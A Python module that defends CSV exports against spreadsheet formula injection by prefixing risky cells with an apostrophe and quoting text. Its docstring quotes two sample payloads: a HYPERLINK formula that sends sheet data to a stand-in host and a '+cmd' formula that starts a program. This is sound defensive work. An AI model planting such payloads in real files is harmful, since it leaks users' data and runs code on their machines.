"""CSV files meant for spreadsheets (Excel, LibreOffice, Google Sheets), made safe to open.

A spreadsheet reads a cell that starts with "=", "+", "-" or "@" (or with a tab or a carriage
return before one) as a formula: `=HYPERLINK("http://evil.example/?x="&A1, "Open")` sends the
sheet's data to another site when clicked, `+cmd|' /C calc'!A0` asks to start a program. Every
CSV the portal writes goes through `csv_document`, which

1. puts an apostrophe before every text cell that starts like that (OWASP, "CSV Injection"),
   so the spreadsheet shows the text as it was typed and runs nothing;
2. quotes every text cell, so a spreadsheet that splits cells on ";" (the list separator of
   many locales) does not start a new cell, and so a formula, in the middle of a text;
3. leaves numbers (int, float, Decimal) as they are: a real negative number stays a number
   that sums, while the text "-1" is escaped like any other text.
"""

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal

# What a spreadsheet may take for the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value):
    """The value to write in a cell: numbers and empty cells as they are, anything else as
    text, with an apostrophe in front when it would start a formula."""
    if value is None or isinstance(value, int | float | Decimal):  # bool is an int
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_document(columns: Sequence[str], rows: Iterable[Mapping]) -> str:
    """A CSV document of `rows` (mappings of column → value) under a header of `columns`,
    every cell made safe by `spreadsheet_cell`. It starts with a byte-order mark, so Excel
    opens Thai text as UTF-8."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.DictWriter(buffer, fieldnames=columns, quoting=csv.QUOTE_STRINGS)
    writer.writeheader()
    for row in rows:
        writer.writerow({column: spreadsheet_cell(value) for column, value in row.items()})
    return buffer.getvalue()
